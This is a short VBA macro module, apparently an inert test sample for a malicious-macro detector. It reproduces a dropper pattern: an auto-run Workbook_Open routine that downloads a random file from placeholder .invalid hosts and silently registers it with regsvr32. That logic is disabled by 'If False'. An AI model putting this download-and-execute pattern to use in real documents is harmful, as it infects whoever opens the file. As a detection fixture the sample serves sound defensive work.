Attribute VB_Name = "Module1"
' INERT SEKISHO TEST
Sub Workbook_Open()
If False Then
a = Split("https://site0.example.invalid/ab0cd0x.tar,https://site1.example.invalid/ab1cd1x.tar,https://site2.example.invalid/ab2cd2x.tar,https://site3.example.invalid/ab3cd3x.tar,https://site4.example.invalid/ab4cd4x.tar,https://site5.example.invalid/ab5cd5x.tar,https://site6.example.invalid/ab6cd6x.tar,https://site7.example.invalid/ab7cd7x.tar,https://site8.example.invalid/ab8cd8x.tar,https://site9.example.invalid/ab9cd9x.tar,https://site10.example.invalid/ab10cd10x.tar,https://site11.example.invalid/ab11cd11x.tar", ",")
r = URLDownloadToFile(0, a(Int(Rnd * 12)), "inert.dll", 0, 0)
Shell "regsvr32 -s inert.dll"
End If
End Sub
